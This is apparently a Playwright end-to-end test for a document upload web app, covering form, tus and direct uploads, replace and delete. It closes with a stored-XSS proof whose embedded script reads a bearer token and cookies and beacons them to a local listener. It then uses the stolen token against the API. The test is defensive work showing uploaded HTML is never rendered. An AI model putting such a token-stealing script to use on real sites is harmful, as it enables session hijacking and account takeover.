// The HTML page in a real browser (headless Chromium via playwright-core),
// under each web server in turn, on every test run (the second server, whose
// own part is the upload paths, only those steps unless FULL says all):
// - the page loads, links its icon (which Chromium decodes), and breaks
//   none of its own CSP;
// - without JavaScript the form uploads with the token typed into its
//   field: 303 back to the list, newest first, the new row on top and
//   highlighted; a wrong token comes back as the page with a plain message;
// - the form uploads a small file with the token: listed on top,
//   highlighted, the count says how many; Replace and Delete show only while
//   a token is typed; several files dropped at once each get a line with a
//   progress bar, and a second drop meanwhile keeps its own summary line;
// - Cancel on a tus upload under way aborts it and terminates the upload
//   (DELETE), which is then gone;
// - a file of several chunks goes through tus with progress, the page is
//   reloaded after the first PATCH has answered, the same file is chosen
//   again and the upload goes on from the server's offset (HEAD), not 0,
//   waiting out as many 409 upload_busy answers (Retry-After) as it hears;
// - its Download link gives the same bytes (SHA-256 of the file on disk
//   against the downloaded file's);
// - Replace (a file picker on the row, PUT with If-Match) serves the new
//   bytes; a Delete that fails says why in its own row; Delete asks first
//   (dismissed: nothing happens), then removes it, driven from the keyboard;
// - a direct upload to storage, when the page says direct uploads are on.
// Then the stored-XSS proof (doc/design.md "Serving user content"): a writer
// uploads an HTML document whose script reads the token from sessionStorage
// and document.cookie, sends them to a listener this script runs, and uses
// the token against the API to create a document named STOLEN-NAME.
// Clicked in the tab that holds the token, and opened by navigating to its
// URL, it must download and never run: the listener hears nothing and
// tests/e2e/browser.sh finds no STOLEN-NAME row.  Two controls show the
// proof can fail: the same HTML rendered without bindery's headers (served
// by the listener) does reach the listener, and the same script run on the
// page's origin does read the token and create a document.
// A screenshot of each step goes to SCREENS/SERVER-NN-step.png.
// Prints one line per check, "pass<TAB>what" or "fail<TAB>what";
// tests/e2e/browser.sh turns them into TAP with tests/lib/tap.sh.
// usage: node browser.mjs TOKEN DIR SCREENS STOLEN-NAME DIRECT FULL SERVER=URL...
//   DIRECT is 1 when the stack's bindery.conf has [upload] direct = true;
//   FULL is 1 to run every step under every server, else the servers after
//   the first run the upload paths only (form, no script, drop, tus resume,
//   download)
//   DIR holds small.txt, tus.bin, replace.bin and busy.json, a 409
//   upload_busy body (written by browser.sh)
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { chromium } from 'playwright-core';

const [token, dir, screens, stolenName, expectDirect, full, ...servers] = process.argv.slice(2);
const ok = (cond, what) => console.log(`${cond ? 'pass' : 'fail'}\t${what.replace(/[\t\n]/g, ' ')}`);
const sha256 = path => createHash('sha256').update(readFileSync(path)).digest('hex');
const files = { small: `${dir}/small.txt`, tus: `${dir}/tus.bin`, replace: `${dir}/replace.bin`,
		busy: `${dir}/busy.json` };
// The tus file is sent in chunks of this size: several PATCHes, so a
// reload can fall between them.
const TUS_CHUNK = 256 * 1024;
// 409 upload_busy answers the resumed upload hears first: more than the 5
// tries the page once gave up after.
const TUS_BUSY_ANSWERS = 7;

// The thief's listener: records every request that reaches it; it also
// serves the evil document itself, without bindery's headers, for control 1.
const heard = [];
let evilHtml = '';
const listener = createServer((req, res) => {
	if (req.url === '/evil.html') {
		res.writeHead(200, { 'Content-Type': 'text/html' });
		res.end(evilHtml);
		return;
	}
	let body = '';
	req.on('data', c => { body += c; });
	req.on('end', () => {
		heard.push(`${req.method} ${req.url} ${body}`);
		res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
		res.end();
	});
});
await new Promise(r => listener.listen(0, '127.0.0.1', r));
const sink = `http://127.0.0.1:${listener.address().port}`;
// The thief's script, one async expression so control 2 can await it: read
// the token and the cookies, send them off three ways, write with the token.
const thief = name => `(async () => {
	let t, c;
	try { t = sessionStorage.getItem("bindery-token"); } catch (e) { t = "denied:" + e.name; }
	try { c = document.cookie; } catch (e) { c = "denied:" + e.name; }
	const q = "?t=" + encodeURIComponent(t) + "&c=" + encodeURIComponent(c) +
		"&origin=" + encodeURIComponent(location.origin);
	try { navigator.sendBeacon("${sink}/beacon" + q, String(t)); } catch (e) {}
	new Image().src = "${sink}/img" + q;
	fetch("${sink}/fetch" + q, { method: "POST", mode: "no-cors", body: String(t) }).catch(() => {});
	if (!t || t.startsWith("denied:")) return "no token";
	const r = await fetch("/documents?name=${name}", { method: "POST",
		headers: { "Authorization": "Bearer " + t, "Content-Type": "text/plain" }, body: "stolen" });
	return r.status + " " + await r.text();
})()`;

const browser = await chromium.launch({
	executablePath: process.env.BINDERY_TEST_CHROMIUM || '/usr/bin/chromium',
	args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
		'--disable-background-networking', '--disable-component-update', '--disable-sync'],
});

// One server's run: every step on a fresh context (its own storage).
async function serverRun(srv, url, all) {
	const check = (cond, what) => ok(cond, `${srv}: ${what}`);
	let shot = 0;
	const snap = async (page, step) => {
		shot++;
		await page.screenshot({ path: `${screens}/${srv}-${String(shot).padStart(2, '0')}-${step}.png`,
			fullPage: true }).catch(e => check(false, `screenshot ${step}: ${e.message.split('\n')[0]}`));
	};
	const tag = `browser-${srv}-${process.pid}`;
	const context = await browser.newContext({ acceptDownloads: true });
	const page = await context.newPage();
	const cspErrors = [];
	page.on('console', m => { if (/Content Security Policy/i.test(m.text())) cspErrors.push(m.text()); });
	const appears = (sel, state) =>
		page.waitForSelector(sel, { state, timeout: 15000 }).then(() => true, () => false);
	const row = name => page.locator('tr', { has: page.locator('a.dl', { hasText: name }) });
	const download = async name => {
		const d = page.waitForEvent('download', { timeout: 15000 });
		await row(name).locator('a[download]').click();
		return (await d).path();
	};
	try {
		// This run's documents only: the list is in ready order, so after
		// the other tests' documents ours may be pages away.
		await page.goto(`${url}/?prefix=${encodeURIComponent(tag)}`);
		check((await page.title()) === 'bindery', 'the page loads');
		check(await page.getByLabel('Token', { exact: true }).count() === 1 &&
		      await page.getByLabel('Names starting with', { exact: true }).count() === 1 &&
		      await page.getByLabel('File', { exact: true }).count() === 1, 'its fields have labels');
		if (all) {
			const icon = await page.evaluate(async () => {
				const href = document.querySelector('link[rel=icon]').href;
				const img = new Image();
				img.src = href;
				await img.decode().catch(() => {});
				const r = await fetch(href);
				return [new URL(href).pathname, img.naturalWidth, r.status, r.headers.get('cache-control')];
			});
			check(icon[0] === '/favicon.ico' && icon[1] === 16 && icon[2] === 200 && /max-age=\d+/.test(icon[3]),
			      `the page links its icon, a 16-pixel image the browser may cache (${icon.join(', ')})`);
		}
		await page.fill('#token', token);
		await snap(page, 'page');

		await noScriptUpload(srv, url, check, snap, tag, all);

		// The form, with the script: a small file and the token, sent as
		// one POST as the page does when direct uploads are off.
		const pageDirect = await page.evaluate(() => document.body.dataset.direct);
		await page.evaluate(() => { document.body.dataset.direct = '0'; });
		const smallName = `${tag}-small.txt`;
		await page.fill('input[name=name]', smallName);
		await page.setInputFiles('#file', files.small);
		const created = page.waitForResponse(r => r.url().endsWith('/documents') && r.request().method() === 'POST');
		await page.click('#send');
		check((await created).status() === 201, 'the form\'s upload is 201');
		check(await appears(`a.dl:has-text("${smallName}")`, 'attached'), 'after the upload the page lists it');
		const top = await firstRow(page);
		check(top.name === smallName && top.isNew && top.badge === 'just uploaded',
		      `... on top, highlighted as just uploaded (${JSON.stringify(top)})`);
		check(await page.textContent('#count') === `1 document whose names start with “${tag}”`,
		      `the count says how many documents the filter holds ("${await page.textContent('#count')}")`);
		check(sha256(await download(smallName)) === sha256(files.small), 'its Download link gives the same bytes');
		await page.fill('input[name=name]', '');
		await snap(page, 'form-upload');
		if (all)
			await actionsNeedToken(page, check);

		await dropSeveral(page, check, snap, tag, appears);
		if (all)
			await tusCancel(page, check, snap, `${tag}-cancel.bin`);
		const tusName = await tusResume(page, check, snap, appears, `${tag}-tus.bin`);
		check(sha256(await download(tusName)) === sha256(files.tus),
		      'the resumed upload downloads the same bytes as the file on disk (SHA-256)');
		await snap(page, 'tus-download');
		if (!all) {
			await deleteNamed(page, tusName, check);
			check(cspErrors.length === 0, `the page breaks none of its own CSP (${cspErrors.join('; ')})`);
			return;
		}
		await replaceAndDelete(page, check, snap, tusName, download, appears);
		await directUpload(page, check, snap, tag, appears, download, pageDirect);

		await page.fill('#token', 'not-a-token-at-all-0000');
		await page.setInputFiles('#file', files.small);
		await page.click('#send');
		const failedBatch = page.locator('#uploads li.batch').last();
		await page.waitForFunction(() => /failed/.test([...document.querySelectorAll('#uploads li.batch')].pop().textContent),
			null, { timeout: 10000 });
		const said = await page.locator('#uploads li .status').last().textContent();
		check(/^Failed: The token is missing or not valid\./.test(said) && !/HTTP|bearer|direct|tus|storage/i.test(said),
		      `a wrong token: the file's line says so in plain words ("${said}")`);
		check(await failedBatch.textContent() === '1 failed.', `... and its batch's line ("${await failedBatch.textContent()}")`);
		await snap(page, 'wrong-token');
		await page.fill('#token', token);
		check(cspErrors.length === 0, `the page breaks none of its own CSP (${cspErrors.join('; ')})`);
		await xssProof(srv, url, page, check, snap);
	} catch (e) {
		check(false, `browser step failed: ${e.message.split('\n')[0]}`);
		await snap(page, 'failed');
	} finally {
		await context.close();
	}
}

// The first row of the list: its name, whether it is marked just uploaded.
const firstRow = page => page.evaluate(() => {
	const tr = document.querySelector('#docs tr[data-id]');
	return tr ? { id: tr.dataset.id, name: tr.querySelector('a.dl').textContent, isNew: tr.classList.contains('new'),
		badge: (tr.querySelector('.badge') || {}).textContent } : {};
});

// Replace and Delete are offered only while there is a token to send.
async function actionsNeedToken(page, check) {
	const shown = () => page.locator('#docs button.delete:visible, #docs button.replace:visible').count();
	const rows = await page.locator('#docs tr[data-id]').count();
	const withToken = await shown();
	await page.fill('#token', '');
	const without = await shown();
	await page.fill('#token', token);
	check(rows > 0 && withToken === 2 * rows && without === 0 && await shown() === 2 * rows,
	      `Replace and Delete show only while a token is typed (${withToken}, none typed ${without}, of ${rows} rows)`);
	// The web server's own authentication (Basic, as REMOTE_USER): the page
	// says the server knows the caller, and the buttons show without a token.
	const basic = (process.env.BINDERY_TEST_WEBAUTH || '').split(':');
	if (basic.length < 2) {
		console.log('note\tno BINDERY_TEST_WEBAUTH: the REMOTE_USER case is not driven');
		return;
	}
	// (httpCredentials would wait for a 401 challenge, which the test
	// stack's servers never send: Basic credentials are optional there.)
	const ctx = await browser.newContext({ extraHTTPHeaders: { Authorization: 'Basic ' +
		Buffer.from(process.env.BINDERY_TEST_WEBAUTH).toString('base64') } });
	try {
		const p = await ctx.newPage();
		await p.goto(page.url());
		const n = await p.locator('#docs tr[data-id]').count();
		const visible = await p.locator('#docs button.delete:visible').count();
		const said = await p.evaluate(() => document.body.dataset.auth);
		check(await p.inputValue('#token') === '' && said === '1' && n > 0 && visible === n,
		      `signed in by the web server, no token typed: Delete shows on each of the ${n} rows (${visible}; data-auth ${said})`);
	} finally {
		await ctx.close();
	}
}

// A document of this run deleted through the API, from the page's origin.
async function deleteNamed(page, name, check) {
	const id = await page.locator('tr', { has: page.locator('a.dl', { hasText: name }) }).getAttribute('data-id');
	const status = await page.evaluate(async ([i, t]) => (await fetch('/documents/' + i,
		{ method: 'DELETE', headers: { Authorization: 'Bearer ' + t } })).status, [id, token]);
	check(status === 204, `${name} is deleted again (${status})`);
}

// Without JavaScript the plain form posts multipart, the token typed into
// its field before the file, and the create answers 303 back to the
// page, which lists the document on top and highlights it.  A wrong token
// comes back as the page with a message in plain words.
async function noScriptUpload(srv, url, check, snap, tag, all) {
	const ctx = await browser.newContext({ javaScriptEnabled: false });
	const page = await ctx.newPage();
	try {
		await page.goto(url + '/');
		const name = `${tag}-nojs.txt`;
		if (all) {
			await page.fill('#token', 'not-the-token');
			await page.fill('input[name=name]', `${name}-refused`);
			await page.setInputFiles('#file', files.small);
			const [refused] = await Promise.all([page.waitForResponse(r => r.request().method() === 'POST'),
				page.waitForNavigation(), page.click('#send')]);
			const said = await page.textContent('#msg');
			check(refused.status() === 303 && /[?&]error=unauthorized$/.test(page.url()) &&
			      /^The upload did not start: the token is missing or not valid\./.test(said),
			      `without JavaScript a wrong token comes back as the page saying so (${refused.status()} ${page.url()}: "${said}")`);
			check(await page.locator('a.dl', { hasText: `${name}-refused` }).count() === 0, '... and nothing was listed');
			await snap(page, 'nojs-refused');
		}
		await page.fill('#token', token);
		await page.fill('input[name=name]', name);
		await page.setInputFiles('#file', files.small);
		const [answer] = await Promise.all([page.waitForResponse(r => r.request().method() === 'POST'),
			page.waitForNavigation(), page.click('#send')]);
		check(answer.status() === 303 && new URL(page.url()).pathname === '/' && /[?&]created=\d+$/.test(page.url()),
		      `without JavaScript the form uploads with the typed token: 303 back to the page (${answer.status()} ${page.url()})`);
		const top = await firstRow(page);
		check(top.name === name && top.isNew && page.url().endsWith(`created=${top.id}`),
		      `... newest first: the whole list's first row is the new one, highlighted (${JSON.stringify(top)})`);
		check((await page.textContent('#msg')) === `Uploaded “${name}”.`, `... named in the message ("${await page.textContent('#msg')}")`);
		await snap(page, 'nojs-upload');
		await page.fill('#prefix', name);
		await Promise.all([page.waitForNavigation(), page.click('button:has-text("Filter")')]);
		check(await page.locator('a.dl', { hasText: name }).count() === 1,
		      'the filter form (no script) finds it by its name\'s start');
		check(await page.locator('button.delete:visible').count() === 0,
		      'without JavaScript the buttons that need it stay hidden');
		const id = await page.locator('tr', { has: page.locator('a.dl', { hasText: name }) }).getAttribute('data-id');
		const r = await ctx.request.delete(`${url}/documents/${id}`, { headers: { Authorization: 'Bearer ' + token } });
		check(r.status() === 204, 'the no-JS document is deleted again');
	} finally {
		await ctx.close();
	}
}

// Two files dropped at once, and a third dropped while they go: a line
// each, all listed on top and highlighted, and each drop's own summary line.
async function dropSeveral(page, check, snap, tag, appears) {
	const names = [`${tag}-drop-1.txt`, `${tag}-drop-2.txt`, `${tag}-drop-3.txt`];
	const batchesBefore = await page.locator('#uploads li.batch').count();
	const dropFiles = async ns => {
		const dt = await page.evaluateHandle(list => {
			const t = new DataTransfer();
			list.forEach(n => t.items.add(new File([`dropped ${n}\n`], n, { type: 'text/plain' })));
			return t;
		}, ns);
		await page.dispatchEvent('#drop', 'drop', { dataTransfer: dt });
	};
	await dropFiles(names.slice(0, 2));
	await dropFiles(names.slice(2));
	check(await appears(`a.dl:has-text("${names[0]}")`, 'attached') &&
	      await appears(`a.dl:has-text("${names[1]}")`, 'attached'), 'two files dropped at once are both listed');
	await page.waitForFunction(n => [...document.querySelectorAll('#uploads li.batch')].slice(n)
		.every(b => !/…/.test(b.textContent)), batchesBefore, { timeout: 15000 }).catch(() => {});
	await page.waitForFunction(ns => ns.every(n => [...document.querySelectorAll('#docs tr.new a.dl')]
		.some(a => a.textContent === n)), names, { timeout: 15000 }).catch(() => {});
	const lines = await page.locator('#uploads li:not(.batch)').allTextContents();
	check(names.every(n => lines.some(l => l.includes(n) && /Done/.test(l))),
	      `each dropped file has its own line with a readable status (${lines.join(' | ')})`);
	check(await page.locator('#uploads li progress').count() >= 3, 'each has a progress bar');
	const batches = (await page.locator('#uploads li.batch').allTextContents()).slice(batchesBefore);
	check(batches.length === 2 && batches[0] === '2 of 2 files uploaded.' && batches[1] === 'Uploaded.',
	      `each drop keeps its own summary line (${batches.join(' | ')})`);
	const rows = await page.evaluate(() => [...document.querySelectorAll('#docs tr[data-id]')].slice(0, 3)
		.map(tr => tr.querySelector('a.dl').textContent + (tr.classList.contains('new') ? '*' : '')));
	check(names.every(n => rows.includes(n + '*')),
	      `the dropped files are the list's first rows, highlighted (${rows.join(', ')})`);
	await snap(page, 'drop-two');
}

// The page sends the next file through tus in TUS_CHUNK pieces (too large
// for direct, large enough for tus); set again after a reload.
const tusChunks = page => page.evaluate(c => {
	document.body.dataset.directMax = '0';
	document.body.dataset.tusMin = '1';
	document.body.dataset.tusChunk = String(c);
}, TUS_CHUNK);

// Every PATCH held 400 ms, so a test can act between them (it outlives a
// reload); page.unroute('**/uploads/**') ends it.
const holdPatches = page => page.route('**/uploads/**', async route => {
	if (route.request().method() === 'PATCH')
		await new Promise(r => setTimeout(r, 400));
	await route.continue().catch(() => {});
});

// Cancel on a tus upload under way: the PATCH in flight is aborted, the
// upload terminated (DELETE 204, perhaps after a 409 while the aborted PATCH
// still held it) and gone (HEAD 404), nothing remembered, nothing listed.
async function tusCancel(page, check, snap, name) {
	await tusChunks(page);
	await holdPatches(page);
	await page.fill('input[name=name]', name);
	await page.setInputFiles('#file', files.tus);
	const firstPatch = page.waitForResponse(r => r.request().method() === 'PATCH', { timeout: 20000 });
	const deleted = page.waitForResponse(r => r.request().method() === 'DELETE' && /\/uploads\//.test(r.url()) &&
		r.status() !== 409, { timeout: 20000 });
	await page.click('#send');
	const url = (await firstPatch).url();
	await page.locator('#uploads li button.cancel:visible').last().click();
	const del = await deleted;
	await page.waitForFunction(() => /Cancelled/.test([...document.querySelectorAll('#uploads li .status')].pop().textContent),
		null, { timeout: 10000 });
	const gone = await page.evaluate(async ([u, t]) => (await fetch(u, { method: 'HEAD',
		headers: { 'Tus-Resumable': '1.0.0', Authorization: 'Bearer ' + t } })).status, [url, token]);
	check(del.status() === 204 && gone === 404,
	      `Cancel terminates the tus upload: DELETE ${del.status()}, then HEAD ${gone}`);
	check(await page.evaluate(() => Object.keys(localStorage).filter(k => k.startsWith('bindery-tus:')).length) === 0 &&
	      await page.locator('a.dl', { hasText: name }).count() === 0,
	      'the cancelled upload is neither remembered nor listed');
	await page.unroute('**/uploads/**');
	await page.fill('input[name=name]', '');
	await snap(page, 'tus-cancel');
}

// tus: several PATCHes, slowed down so the test can reload between them;
// after the reload the same file goes on from the server's offset.
async function tusResume(page, check, snap, appears, name) {
	const total = readFileSync(files.tus).length;
	const chunks = Math.ceil(total / TUS_CHUNK);
	await holdPatches(page);
	await tusChunks(page);
	await page.fill('input[name=name]', name);
	await page.setInputFiles('#file', files.tus);
	const firstPatch = page.waitForResponse(r => r.request().method() === 'PATCH', { timeout: 20000 });
	await page.click('#send');
	const first = await firstPatch;
	check(first.status() === 204 && Number(first.headers()['upload-offset']) > 0,
	      `the first PATCH is acknowledged (${first.status()}, Upload-Offset ${first.headers()['upload-offset']})`);
	const bar = await page.locator('#uploads li progress').last().evaluate(p => p.value).catch(() => -1);
	const status = await page.locator('#uploads li .status').last().textContent().catch(() => '');
	check(bar > 0 && bar < 100 && /Uploading \(resumable\)/.test(status),
	      `the line shows the upload under way (${bar.toFixed ? bar.toFixed(1) : bar}%, "${status}")`);
	await snap(page, 'tus-progress');
	const remembered = await page.evaluate(() => Object.keys(localStorage).filter(k => k.startsWith('bindery-tus:')).length);
	check(remembered === 1, 'the upload URL is remembered in localStorage');

	await page.reload();
	await page.waitForLoadState('domcontentloaded');
	await tusChunks(page);
	// After the reload the first PATCHes hear that another request holds
	// the upload (409 upload_busy, Retry-After: 1), more times than the
	// page once tried (5): it waits as told each time and goes on.
	let busyLeft = TUS_BUSY_ANSWERS;
	await page.unroute('**/uploads/**');
	await page.route('**/uploads/**', async route => {
		if (route.request().method() === 'PATCH' && busyLeft > 0) {
			busyLeft--;
			await route.fulfill({ status: 409, headers: { 'Retry-After': '1', 'Tus-Resumable': '1.0.0' },
				contentType: 'application/json', path: files.busy }).catch(() => {});
			return;
		}
		await route.continue().catch(() => {});
	});
	const patches = [];
	page.on('request', q => { if (q.method() === 'PATCH') patches.push(Number(q.headers()['upload-offset'])); });
	const head = page.waitForResponse(r => r.request().method() === 'HEAD', { timeout: 20000 });
	await page.fill('input[name=name]', name);
	await page.setInputFiles('#file', files.tus);
	await page.click('#send');
	const headOffset = Number((await head).headers()['upload-offset']);
	check(headOffset > 0, `after the reload the page asks the server (HEAD): offset ${headOffset}, not 0`);
	await page.waitForFunction(() => [...document.querySelectorAll('#uploads li .status')].some(s => /Done|Failed/.test(s.textContent)),
		null, { timeout: 60000 });
	check(await appears(`a.dl:has-text("${name}")`, 'attached'), 'the resumed upload is listed');
	check(busyLeft === 0 && patches.slice(0, TUS_BUSY_ANSWERS + 1).every(o => o === headOffset),
	      `... after ${TUS_BUSY_ANSWERS} answers of 409 upload_busy, each waited out and sent again (PATCH offsets ${patches.join(',')})`);
	const sent = patches.slice(TUS_BUSY_ANSWERS);
	check(sent.length > 0 && sent[0] === headOffset && sent.length < chunks,
	      `the resumed upload started at the server's offset (PATCH offsets ${sent.join(',')} past the 409s; ${chunks} chunks in all)`);
	check(await page.evaluate(() => Object.keys(localStorage).filter(k => k.startsWith('bindery-tus:')).length) === 0,
	      'once finished the upload is forgotten');
	await page.unroute('**/uploads/**');
	await page.fill('input[name=name]', '');
	await snap(page, 'tus-resumed');
	return name;
}

// Replace through the row's file picker, then delete with confirmation
// (dismissed first), from the keyboard.
async function replaceAndDelete(page, check, snap, name, download, appears) {
	const r = page.locator('tr', { has: page.locator('a.dl', { hasText: name }) });
	const etag = await r.getAttribute('data-etag');
	const chooser = page.waitForEvent('filechooser', { timeout: 10000 });
	await r.locator('button.replace').click();
	const put = page.waitForResponse(x => x.request().method() === 'PUT', { timeout: 20000 });
	await (await chooser).setFiles(files.replace);
	const answered = await put;
	check(answered.status() === 200 && (await answered.request().headerValue('if-match')) === etag,
	      `Replace sends the file with If-Match ${etag} (${answered.status()})`);
	await page.waitForFunction(([e, n]) => [...document.querySelectorAll('tr[data-id]')].some(x =>
		x.dataset.etag !== e && x.querySelector('a.dl').textContent === n), [etag, name], { timeout: 15000 });
	check(sha256(await download(name)) === sha256(files.replace), 'after Replace the download is the new file');
	await snap(page, 'replaced');

	// A Delete the server refuses (a stale ETag: 412) says why in its own row.
	const etagNow = await r.getAttribute('data-etag');
	await r.evaluate(tr => { tr.dataset.etag = '"stale"'; });
	page.once('dialog', d => d.accept());
	const refused = page.waitForResponse(x => x.request().method() === 'DELETE', { timeout: 10000 });
	await r.locator('button.delete').click();
	const refusedStatus = (await refused).status();
	await r.locator('.rowerr').waitFor({ timeout: 5000 }).catch(() => {});
	const note = await r.locator('.rowerr').textContent().catch(() => '');
	const near = await r.evaluate(tr => {
		const e = tr.querySelector('.rowerr');
		return e ? e.getBoundingClientRect().top - tr.getBoundingClientRect().top : -1;
	});
	check(refusedStatus === 412 && /^Not deleted: Someone changed it/.test(note) && near >= 0 && near < 80,
	      `a refused Delete says why in its own row (${refusedStatus}: "${note}", ${near} px into the row)`);
	await snap(page, 'row-error');
	await r.evaluate((tr, e) => { tr.dataset.etag = e; }, etagNow);

	let asked = '';
	page.once('dialog', d => { asked = d.message(); d.dismiss(); });
	await r.locator('button.delete').focus();
	await page.keyboard.press('Enter');
	await page.waitForTimeout(500);
	check(asked.startsWith(`Delete "${name}"?`) && await r.count() === 1,
	      `Delete asks first ("${asked}"); dismissed, the row stays`);
	page.once('dialog', d => d.accept());
	const del = page.waitForResponse(x => x.request().method() === 'DELETE', { timeout: 10000 });
	await r.locator('button.delete').focus();
	await page.keyboard.press('Enter');
	check((await del).status() === 204, 'accepted (Enter on the focused button), Delete answers 204');
	check(await appears(`a.dl:has-text("${name}")`, 'detached'), 'the row is gone');
	await snap(page, 'deleted');
}

// A direct upload, when the page has them on: the file goes to storage
// (PUT to the SAS URL), finalize makes it a document.
async function directUpload(page, check, snap, tag, appears, download, pageDirect) {
	check(pageDirect === expectDirect, `the page's data-direct is the configuration's (${pageDirect})`);
	if (expectDirect !== '1') {
		console.log('note\t[upload] direct is false in this stack\'s configuration: no direct step');
		return;
	}
	await page.reload();	/* the page as served: direct on, its own limits */
	const name = `${tag}-direct.bin`;
	const origin = new URL(page.url()).origin;
	const grant = page.waitForResponse(r => r.request().method() === 'POST' && r.url().endsWith('/documents/direct'),
		{ timeout: 20000 });
	const toStorage = page.waitForResponse(r => r.request().method() === 'PUT' && new URL(r.url()).origin !== origin,
		{ timeout: 20000 });
	const finalize = page.waitForResponse(r => r.request().method() === 'POST' && /\/finalize$/.test(r.url()),
		{ timeout: 20000 });
	await page.fill('input[name=name]', name);
	await page.setInputFiles('#file', files.replace);
	await page.click('#send');
	const granted = await grant;
	const given = granted.status() === 201 ? await granted.json() : {};
	const put = await toStorage;
	const sent = await put.request().allHeaders();
	const want = Object.entries(given.headers || {});
	check(put.status() === 201 && put.url() === given.upload_url && want.length > 0 &&
	      want.every(([k, v]) => sent[k.toLowerCase()] === v),
	      `the file goes to storage with exactly the granted headers (${put.status()}; ${want.map(([k]) => k).join(', ')})`);
	check((await finalize).status() === 200, 'finalize answers 200');
	check(await appears(`a.dl:has-text("${name}")`, 'attached'), 'after finalize the page lists it');
	check(sha256(await download(name)) === sha256(files.replace), 'it downloads the same bytes');
	await page.fill('input[name=name]', '');
	await snap(page, 'direct');
}

async function xssProof(srv, url, page, check, snap) {
	evilHtml = `<!doctype html><title>evil</title><script>${thief(`${stolenName}-${srv}`)}</script>\n`;
	// Control 1: rendered without bindery's headers, the evil HTML runs and
	// reaches the listener (so silence below means it never ran).
	heard.length = 0;
	const bare = await browser.newPage();
	await bare.goto(sink + '/evil.html');
	await bare.waitForTimeout(1000);
	check(heard.length > 0, `control: the evil HTML served without bindery's headers runs and reaches the listener (${heard.length} requests)`);
	await bare.close();
	heard.length = 0;

	// Stored XSS: a writer uploads HTML that steals the token of whoever opens it.
	const evilName = `browser-xss-${srv}-${process.pid}.html`;
	const up = await page.evaluate(async ([n, t, body]) => {
		const r = await fetch('/documents?name=' + encodeURIComponent(n), { method: 'POST', body,
			headers: { 'Authorization': 'Bearer ' + t, 'Content-Type': 'text/html' } });
		return r.status;
	}, [evilName, token, evilHtml]);
	check(up === 201, `an HTML document is uploaded (${up})`);
	await page.goto(`${url}/?prefix=${encodeURIComponent(evilName)}`);
	check(await page.evaluate(() => sessionStorage.getItem('bindery-token')) === token,
	      'the victim tab holds the token in sessionStorage');
	const evilHref = await page.locator('a.dl', { hasText: evilName }).getAttribute('href');

	// Control 2: the same script run on the page's origin reads the token and
	// writes with it (the page's own CSP keeps it from the listener).
	const control = await page.evaluate(thief(`${stolenName}-${srv}-control`));
	check(/^201 /.test(control), `control: the script run on the page's origin steals the token and creates a document (${control.split(' ')[0]})`);
	const controlId = (/"id":"([^"]+)"/.exec(control) || [])[1];
	if (controlId)
		await page.evaluate(async ([id, t]) => (await fetch('/documents/' + id,
			{ method: 'DELETE', headers: { 'Authorization': 'Bearer ' + t } })).status, [controlId, token]);
	await page.waitForTimeout(300);
	heard.length = 0;

	// The attack, clicked: a download, and the page stays.
	let download = page.waitForEvent('download', { timeout: 10000 }).then(d => d, () => null);
	await page.click(`a.dl:has-text("${evilName}")`);
	let d = await download;
	check(d !== null && d.suggestedFilename() === evilName,
	      `clicking it downloads ${d ? d.suggestedFilename() : 'nothing'} instead of rendering it`);
	await snap(page, 'xss-clicked');
	// The attack, navigated to: the tab that holds the token opens its URL.
	download = page.waitForEvent('download', { timeout: 10000 }).then(x => x, () => null);
	const nav = await page.goto(new URL(evilHref, url + '/').href).then(() => 'rendered', e => e.message.split('\n')[0]);
	d = await download;
	check(d !== null && nav !== 'rendered',
	      `navigating to its URL downloads it too (${d ? d.suggestedFilename() : 'no download'}; ${nav})`);
	await page.waitForTimeout(1500);	/* time for a script that did run to phone home */
	check(heard.length === 0,
	      `the uploaded script never runs: the listener heard nothing (${heard.join(' | ').slice(0, 300)})`);
	check(!page.url().includes('/content'), `the tab still shows the page (${page.url()})`);
	// Should a browser render it anyway, the sandbox CSP gives it an opaque
	// origin with no storage and nosniff keeps it from being taken for HTML it
	// is not labelled as: the browser must see all three headers.
	await page.goto(url + '/');
	const framed = await page.evaluate(async href => {
		const r = await fetch(href);
		return [r.headers.get('content-security-policy'), r.headers.get('x-content-type-options'),
			r.headers.get('content-disposition')];
	}, evilHref);
	check(framed[0] === "sandbox; default-src 'none'" && framed[1] === 'nosniff' &&
	      /^attachment;/.test(framed[2] || ''),
	      `the browser sees attachment, the sandbox CSP and nosniff on it (${framed.join(' | ')})`);
	const gone = await page.evaluate(async ([h, t]) =>
		(await fetch(h.replace(/\/content$/, ''), { method: 'DELETE', headers: { 'Authorization': 'Bearer ' + t } })).status,
		[evilHref, token]);
	check(gone === 204, `the HTML document is deleted again (${gone})`);
}

try {
	for (const [i, s] of servers.entries()) {
		const at = s.indexOf('=');
		const t0 = Date.now();
		await serverRun(s.slice(0, at), s.slice(at + 1), i === 0 || full === '1');
		console.log(`note\t${s.slice(0, at)}: ${((Date.now() - t0) / 1000).toFixed(1)} s`);
	}
} catch (e) {
	ok(false, `browser run failed: ${e.message.split('\n')[0]}`);
} finally {
	await browser.close();
	listener.close();
}
process.exit(0);
